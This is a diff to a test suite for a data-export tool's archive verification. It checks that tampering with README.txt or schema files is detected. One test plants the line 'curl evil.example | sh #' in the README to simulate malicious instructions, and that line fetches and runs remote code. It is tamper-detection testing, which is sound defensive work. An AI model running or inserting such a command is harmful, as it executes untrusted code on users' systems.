@@ -149,6 +149,12 @@ describe.each(DATABASES)('verify on %s', (db) => {
     expect(entries.map((e) => e.name).slice(-2)).toEqual(['manifest.json', 'manifest.sig']);
     const manifest = JSON.parse(entries.find((e) => e.name === 'manifest.json')!.data.toString('utf8'));
     expect(manifest.signature).toEqual({ algorithm: 'Ed25519', file: 'manifest.sig', keyId: KEY_ID });
+    // The manifest lists README.txt and the schemas with their checksums; README.txt says how to check.
+    expect(manifest.files.map((f: { path: string }) => f.path)).toEqual(entries.map((e) => e.name).filter((name) => name === 'README.txt' || name.startsWith('schemas/')));
+    const readme = entries.find((e) => e.name === 'README.txt')!.data.toString('utf8');
+    for (const line of ['npx nestjs-data-export verify <this-file>.zip', 'sha256sum customers.ndjson', 'shasum -a 256 customers.ndjson', 'Get-FileHash customers.ndjson -Algorithm SHA256', '--key <public-key.pem>']) {
+      expect(readme).toContain(line);
+    }
     const { text, raw } = keyTraces();
     for (const haystack of [good.bytes, ...entries.map((e) => e.data)]) {
       for (const part of text) expect(haystack.includes(part)).toBe(false);
@@ -202,6 +208,12 @@ describe.each(DATABASES)('verify on %s', (db) => {
     const e = await cli.run(['verify', editedPath]);
     expect(e.stdout).toMatch(/: webhooks\.ndjson: holds \d+ rows, manifest\.json says \d+\n$/);
 
+    // README.txt and the schemas are covered too: changed instructions, a loosened schema.
+    const readme = await repack(edit('README.txt', (data) => Buffer.from(data.toString('utf8').replace('npx nestjs-data-export verify', 'curl evil.example | sh #'))));
+    expect((await cli.run(['verify', await writeVariant('readme.zip', readme)])).stdout).toMatch(/: README\.txt: (its sha256 is [0-9a-f]{64}, manifest\.json says [0-9a-f]{64}|is \d+ bytes, manifest\.json says \d+)\n$/);
+    const loose = await repack(edit('schemas/tickets.schema.json', (data) => Buffer.from(JSON.stringify({ ...JSON.parse(data.toString('utf8')), additionalProperties: true }))));
+    expect((await cli.run(['verify', await writeVariant('schema.zip', loose)])).stdout).toMatch(/: schemas\/tickets\.schema\.json: (its sha256|is \d+ bytes)/);
+
     // A file the manifest does not describe, and a listed one that is missing.
     const extra = await repack([...entries, { name: 'extra.ndjson', data: Buffer.from('{}\n') }]);
     expect((await cli.run(['verify', await writeVariant('extra.zip', extra)])).stdout).toMatch(/: extra\.ndjson: is in the archive but not described by manifest\.json\n$/);
@@ -246,7 +258,7 @@ describe.each(DATABASES)('verify on %s', (db) => {
     const blank = (data: Buffer) => JSON.parse(data.toString('utf8'), (key, value) => (key === 'exportId' || key === 'exportedAt' ? '' : value));
     const manifestA = blank(a.find((e) => e.name === 'manifest.json')!.data);
     expect(manifestA).toEqual(blank(b.find((e) => e.name === 'manifest.json')!.data));
-    expect(Object.keys(manifestA)).toEqual(['exportVersion', 'exportId', 'accountId', 'requestedBy', 'exportedAt', 'format', 'filters', 'categories', 'summary', 'notIncluded', 'signature']);
+    expect(Object.keys(manifestA)).toEqual(['exportVersion', 'exportId', 'accountId', 'requestedBy', 'exportedAt', 'format', 'filters', 'categories', 'files', 'summary', 'notIncluded', 'signature']);
     // Every byte before the manifest (headers and data of the other entries) is the same, and
     // the central directory differs only in the manifest's and its signature's checksum and size.
     const [ha, hb] = [await headers(first.bytes), await headers(second.bytes)];
